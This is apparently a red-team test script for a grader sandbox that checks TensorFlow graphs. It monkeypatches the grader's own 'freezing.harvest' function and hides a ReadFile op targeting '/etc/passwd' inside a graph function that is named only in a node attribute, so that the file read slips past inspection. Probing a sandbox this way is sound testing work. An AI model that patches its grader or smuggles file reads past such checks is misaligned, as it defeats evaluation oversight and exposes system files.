# Tries: file ops inside a function that a function of the graph calls, and named only in an attribute
import numpy as np
import tensorflow as tf

x_data = [[1, 2]]
X = tf.placeholder(tf.float32, shape=[None, 2])
W = tf.Variable(tf.random_normal([2, 1]), name='weight')
b = tf.Variable(tf.random_normal([1]), name='bias')

from grader.sandbox.inside.tensorflow import freezing

original = freezing.harvest

from google.protobuf import text_format


def forged(change):
    def harvest(module, **named):
        found = original(module, **named)
        definition = tf.GraphDef()
        definition.ParseFromString(found["graph"])
        change(definition, found)
        found["graph"] = definition.SerializeToString()
        print("TRICK:ops_in_functions")
        return found

    return harvest


hypothesis = tf.nn.relu(tf.matmul(X, W) + b, name="out")

INNER = """
signature { name: "inner" output_arg { name: "o" type: DT_STRING } }
node_def { name: "p" op: "Const" attr { key: "dtype" value { type: DT_STRING } } attr { key: "value" value { tensor { dtype: DT_STRING tensor_shape {} string_val: "/etc/passwd" } } } }
node_def { name: "r" op: "ReadFile" input: "p:output:0" }
ret { key: "o" value: "r:contents:0" }
"""


def change(definition, found):
    text_format.Parse(INNER, definition.library.function.add())
    call = definition.node.add(name="call", op="PartitionedCall")
    call.attr["f"].func.name = "inner"
    call.attr["Tin"].list.SetInParent()
    call.attr["Tout"].list.type.append(7)
    other = definition.node.add(name="other", op="PartitionedCall")
    other.attr["f"].func.name = "ReadFile"
    other.attr["Tin"].list.type.append(7)
    other.attr["Tout"].list.type.append(7)
    other.input.append("call")
    for node in definition.node:
        if node.name == "out":
            node.input.append("^other")


freezing.harvest = forged(change)

with tf.Session() as sess:
    sess.run(tf.global_variables_initializer())
    print(sess.run(hypothesis, feed_dict={X: x_data}))
